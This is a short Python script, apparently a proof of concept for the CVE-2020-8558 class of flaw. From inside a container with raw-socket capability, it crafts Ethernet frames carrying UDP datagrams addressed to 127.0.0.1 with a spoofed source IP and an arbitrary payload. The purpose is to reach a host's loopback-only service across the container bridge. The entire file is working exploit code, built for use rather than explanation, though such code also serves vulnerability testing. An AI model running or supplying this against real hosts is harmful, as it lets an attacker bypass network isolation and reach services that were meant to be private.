# Sends UDP datagrams addressed to 127.0.0.1:PORT in Ethernet frames to a given MAC out of
# IFNAME: what a container with CAP_NET_RAW can craft to reach a host's loopback-only service
# through its bridge (the CVE-2020-8558 class). Run inside the container's network namespace.
#   python3 localnet-probe.py IFNAME DST_MAC SRC_IP PORT PAYLOAD
import socket
import struct
import sys

ifname, dst_mac, src_ip, port, payload = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5].encode()


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((ifname, 0))
src_mac = s.getsockname()[4]
udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0, socket.inet_aton(src_ip), socket.inet_aton("127.0.0.1"))
ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
frame = bytes.fromhex(dst_mac.replace(":", "")) + src_mac + b"\x08\x00" + ip + udp
for _ in range(3):
    s.send(frame)
